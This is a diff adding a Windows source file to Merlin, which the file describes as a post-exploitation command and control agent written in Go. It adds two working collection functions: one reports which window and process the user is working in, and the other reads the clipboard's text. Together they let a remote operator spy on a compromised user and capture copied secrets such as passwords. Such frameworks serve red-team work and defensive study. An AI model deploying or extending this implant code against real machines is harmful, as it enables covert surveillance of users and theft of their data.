@@ -0,0 +1,75 @@
+//go:build windows
+// +build windows
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"path/filepath"
+	"unsafe"
+
+	// X Packages
+	"golang.org/x/sys/windows"
+
+	// Internal
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/kernel32"
+	"github.com/Ne0nd0g/merlin-agent/os/windows/api/user32"
+)
+
+// foregroundWindow returns the title and process of the window the user is working in. The agent must run in the
+// user's interactive session, a service in session 0 can not see the user's desktop
+func foregroundWindow() (string, error) {
+	hWnd := user32.GetForegroundWindow()
+	if hWnd == 0 {
+		return "", fmt.Errorf("there is no foreground window in this session")
+	}
+	title := user32.GetWindowText(hWnd)
+	pid := user32.GetWindowThreadProcessId(hWnd)
+	entry := procEntry{PID: int(pid)}
+	processDetails(&entry)
+	if entry.Command != "" {
+		return fmt.Sprintf("%s (%s %d)", title, filepath.Base(entry.Command), pid), nil
+	}
+	return fmt.Sprintf("%s (%d)", title, pid), nil
+}
+
+// clipboardText returns the clipboard's Unicode text, or an empty string if it holds another format
+func clipboardText() (string, error) {
+	if err := user32.OpenClipboard(0); err != nil {
+		return "", err
+	}
+	defer user32.CloseClipboard()
+	hMem, err := user32.GetClipboardData(user32.CF_UNICODETEXT)
+	if err != nil {
+		return "", nil
+	}
+	addr, err := kernel32.GlobalLock(hMem)
+	if err != nil {
+		return "", err
+	}
+	defer kernel32.GlobalUnlock(hMem)
+	buf := make([]byte, kernel32.GlobalSize(hMem)&^1)
+	kernel32.RtlMoveMemory(buf, addr)
+	if len(buf) < 2 {
+		return "", nil
+	}
+	return windows.UTF16ToString(unsafe.Slice((*uint16)(unsafe.Pointer(&buf[0])), len(buf)/2)), nil
+}